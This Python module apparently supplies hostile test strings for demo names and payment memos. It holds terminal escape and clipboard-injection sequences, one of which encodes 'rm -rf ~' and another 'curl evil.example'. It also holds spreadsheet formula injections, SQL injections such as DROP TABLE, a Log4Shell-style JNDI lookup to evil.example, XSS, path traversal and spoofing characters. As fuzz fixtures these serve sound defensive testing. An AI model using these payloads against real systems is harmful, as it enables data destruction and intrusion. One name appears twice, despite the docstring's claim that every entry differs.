"""Names and memos that attack whoever shows, stores or exports them: about one in a hundred.

What the world's spam, jokers and broken imports put in: escape sequences, direction overrides, invisible letters,
markup of terminal toolkits, formulas, SQL. Lone surrogates and NUL are not here: no plan holds what no store keeps.
"""

from __future__ import annotations

from typing import Final

from data.demo.dice import Dice

_ESC: Final = "\x1b"
_BEL: Final = "\x07"

NAMES: Final = (
    f"Acme {_ESC}[31mRed{_ESC}[0m Supplies",
    f"{_ESC}]52;c;cm0gLXJmIH4K{_BEL}Clipboard Traders",
    f"{_ESC}]0;root@ledger{_BEL}Title Setters Ltd",
    f"{_ESC}[2J{_ESC}[HBlank Screen Bakery",
    f"{_ESC}P+q544e{_ESC}\\Device Query & Co",
    "\x9b31mEight Bit\x9b0m Castings",
    "\x9d52;c;ZXZpbA==\x9cC1 Clipboard GmbH",
    "Invoice \u202egnp.exe\u202c Holdings",
    "\u2066Isolated\u2069 \u202dOverride\u202c Optics",
    "Z\u0351\u0306\u033ea\u0327\u031b\u0349l\u0334\u0335\u0336g\u0300\u0301\u0302o"
    + "\u0301" * 60
    + " Printworks",
    "Soft\u00adHyphen\u00ad Joinery",
    "[red]markup[/] Supplies",
    "[@click=app.quit]Click me[/] Catering",
    "[/x] Unbalanced Brackets LLP",
    "[bold][[on red]]Nested[[/]] Ltd",
    "[link=file:///etc/passwd]Linked[/link] AG",
    "Z\u0351\u0306\u033ea\u0327\u031b\u0349l\u0334\u0335\u0336g\u0300\u0301\u0302o"
    + "\u0301" * 60
    + " Printworks",
    '=HYPERLINK("http://evil.example","pay here") Ltd',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd Dairy",
    "-2+3+cmd Laundry",
    "Robert'); DROP TABLE item;-- & Sons",
    "' OR '1'='1' UNION SELECT token FROM people --",
    "Newline\nTraders\r\nSecond Row Ltd",
    "Tab\tSeparated\tValues Co.",
    "Carriage\rReturn overwrites this line",
    "Backspace\x08\x08\x08\x08 Freight",
    "{name!r} %s %(party)s ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script> Web GmbH",
    "../../etc/passwd",
    "🦊🚚 Fuchs Express 💶 GmbH",
    "👩\u200d👩\u200d👧\u200d👦 Family Bakers",
    "\U000e0041\U000e0042\U000e0043Tagged Timber",
    "\ufffd\ufffd Mojibake MÃ¼ller GrÃ¶ÃŸe",
    "\uff26\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48 \uff21\uff43\uff4d\uff45",
    "\u0410cme Su\u0440\u0440lies Ltd",
    "\u3164\u3164\u3164",
    "\U0001242b\ufdfa " * 8,
    "W" * 900 + " and Everyone Else Limited",
    "Ltd " + "非常に長い名前の" * 60 + "株式会社",
)

MEMOS: Final = (
    f"PAYMENT {_ESC}[5;31mURGENT{_ESC}[0m ",
    f"{_ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGU={_BEL}remit ",
    f"{_ESC}[6n{_ESC}[c answerback ",
    "\x9b2J cleared ",
    "\u202eEVER\u202c ",
    "inv\u200boi\u200bce ",
    "[red]paid[/] ",
    "[@click=app.post_all]details[/] ",
    "[/x] ",
    "=1+1 ",
    "=cmd|'/C calc'!A1 ",
    "'; DELETE FROM command; -- ",
    "line one\nline two\r\nline three\n" * 40,
    "0\u0301" * 80 + " ",
    "💸💸💸 ",
    "A" * 5000 + " ",
    "\t\t\x0b\x0c ",
    "ref: ${7*7} {{7*7}} %n ",
)


def hostile_name(place: int) -> str:
    """The ``place``-th hostile name; there are as many different ones as the list is long."""
    return NAMES[place % len(NAMES)]


def hostile_memo(dice: Dice, text: str) -> str:
    """An attack with the payer's real words behind it."""
    return dice.pick(MEMOS) + text
